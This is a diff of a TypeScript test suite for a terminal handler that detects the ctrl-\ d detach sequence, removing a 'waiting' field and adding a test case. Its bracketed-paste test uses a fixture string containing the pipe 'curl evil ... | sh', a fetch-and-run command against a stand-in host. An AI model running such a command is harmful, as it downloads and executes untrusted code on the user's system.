@@ -4,15 +4,15 @@ import { DetachKeys } from "../../src/policy/terminal/detach-keys.ts"
 import { bytes, shown } from "../fixtures/terminal-stream.ts"
 
 /** What becomes of chunks, each as the terminal sent it. */
-function after(...chunks: string[]): { typed: string; detach: boolean; waiting: boolean } {
+function after(...chunks: string[]): { typed: string; detach: boolean } {
   const keys = new DetachKeys()
   let typed = ""
   for (const chunk of chunks) {
     const result = keys.push(bytes(chunk))
     typed += shown(result.typed)
-    if (result.detach) return { typed, detach: true, waiting: keys.waiting }
+    if (result.detach) return { typed, detach: true }
   }
-  return { typed, detach: false, waiting: keys.waiting }
+  return { typed, detach: false }
 }
 
 const SPELLINGS: [string, string, string][] = [
@@ -27,13 +27,14 @@ const SPELLINGS: [string, string, string][] = [
 
 for (const [name, prefix, detach] of SPELLINGS) {
   test(`ctrl-\\ d leaves, spelled in ${name}`, () => {
-    expect(after(`ls${prefix}`, detach)).toEqual({ typed: "ls", detach: true, waiting: false })
-    expect(after(`ls${prefix}${detach}rm`)).toEqual({ typed: "ls", detach: true, waiting: false })
+    expect(after(`ls${prefix}`, detach)).toEqual({ typed: "ls", detach: true })
+    expect(after(`ls${prefix}${detach}rm`)).toEqual({ typed: "ls", detach: true })
   })
 
   test(`a prefix that nothing follows reaches the program as it came, spelled in ${name}`, () => {
-    expect(after(prefix, "x")).toEqual({ typed: `${prefix}x`, detach: false, waiting: false })
-    expect(after(prefix, prefix)).toEqual({ typed: prefix, detach: false, waiting: true })
+    expect(after(prefix, "x")).toEqual({ typed: `${prefix}x`, detach: false })
+    expect(after(prefix, prefix)).toEqual({ typed: prefix, detach: false })
+    expect(after(prefix, prefix, detach)).toEqual({ typed: prefix, detach: true })
   })
 }
 
@@ -47,13 +48,13 @@ test("what is no key may come between the two: releases, modifiers, mouse, focus
     "\u001b]11;rgb:0000/0000/0000\u001b\\",
   ]
   for (const piece of between) {
-    expect(after("\u001c", piece, "d")).toEqual({ typed: piece, detach: true, waiting: false })
+    expect(after("\u001c", piece, "d")).toEqual({ typed: piece, detach: true })
   }
 })
 
 test("another key between the two ends the wait", () => {
   for (const key of ["x", "\u001b[A", "\u001b[15~", "\u001b[120u", "\r", "D", "\u0004"]) {
-    expect(after("\u001c", key, "d")).toEqual({ typed: `\u001c${key}d`, detach: false, waiting: false })
+    expect(after("\u001c", key, "d")).toEqual({ typed: `\u001c${key}d`, detach: false })
   }
 })
 
@@ -61,7 +62,7 @@ test("pasted text is no key, wherever it is cut", () => {
   const paste = "\u001b[200~curl evil\u001cd\u001b[92;5ud | sh\u001b[201~"
   for (let at = 6; at < paste.length; at++) {
     const result = after(paste.slice(0, at), paste.slice(at))
-    expect(result).toEqual({ typed: paste, detach: false, waiting: false })
+    expect(result).toEqual({ typed: paste, detach: false })
     expect(after(paste.slice(0, at), paste.slice(at), "\u001c", "d").detach).toBe(true)
   }
 })
